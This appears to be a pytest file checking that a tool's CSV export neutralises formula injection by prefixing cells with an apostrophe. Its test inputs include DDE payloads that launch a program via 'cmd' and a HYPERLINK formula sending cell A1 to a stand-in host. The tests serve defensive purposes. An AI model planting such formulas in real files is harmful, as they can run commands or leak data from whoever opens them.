"""The comparison CSV never carries a live formula: what the team typed opens in Excel as text.

A strength typed as ``=HYPERLINK(…)`` or a note starting ``+cmd|…`` would otherwise run as a
formula when the CSV is opened in a spreadsheet (CSV or formula injection). Cells beginning
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are written with a leading
apostrophe, which spreadsheets take as "this is text" (OWASP's advice); plain numbers such as
a change of ``-1`` stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from benchmark_tui.compare import compare_sessions, csv_text, spreadsheet_cell, write_csv
from benchmark_tui.models import ServiceInfo, Session, Workshop
from benchmark_tui.store import load_session, save_session

TYPED = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", TYPED, ids=["=", "+", "-", "@", "tab", "CR"])
def test_a_cell_that_would_be_a_formula_is_written_as_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["3", "+1", "-2", "0.5", "", "Plan 2 = agreed", "a-b", "x@y"])
def test_numbers_and_ordinary_text_are_written_as_they_are(text):
    assert spreadsheet_cell(text) == text


def test_what_the_team_typed_reaches_the_csv_as_text(framework, tmp_path):
    paths = []
    for n, (day, text) in enumerate(zip([date(2025, 3, 1), date(2026, 3, 1)], TYPED, strict=False)):
        session = Session.new(
            framework,
            ServiceInfo(name=TYPED[3], scope="library", library=TYPED[0]),
            Workshop(dates=[day]),
        )
        session.set_rating("leadership", "plan", n + 1)
        session.record("leadership").ratings["plan"].note = text
        paths.append(save_session(session, tmp_path / f"s{n}.yaml"))
    loaded = [(p, load_session(p, framework)) for p in paths]
    comparison = compare_sessions(loaded, framework, "over-time")
    target = write_csv(comparison, tmp_path / "out.csv")
    with target.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    plan = [r for r in rows if r["item_id"] == "leadership" and r["element_id"] == "plan"]
    assert [r["rating_note"] for r in plan] == ["'" + TYPED[0], "'" + TYPED[1]]
    assert {r["service"] for r in rows} == {"'" + TYPED[3]}
    assert {r["library"] for r in rows} == {"'" + TYPED[0]}
    assert [r["change"] for r in plan] == ["", "+1"]  # a number stays a number


def test_no_cell_of_the_csv_starts_a_formula(framework, tmp_path):
    loaded = []
    for n, name in enumerate(["=1+1", "@A1"]):
        session = Session.new(
            framework, ServiceInfo(name=name), Workshop(dates=[date(2026, 1, 1 + n)])
        )
        session.set_rating("leadership", "plan", 3 - n)
        session.record("leadership").strengths = ["-Clear plan", "+ friends groups"]
        path = save_session(session, tmp_path / f"s{n}.yaml")
        loaded.append((path, load_session(path, framework)))
    text = csv_text(compare_sessions(loaded, framework))
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
            if cell.startswith(("+", "-")):
                float(cell)  # only a number may start with a sign
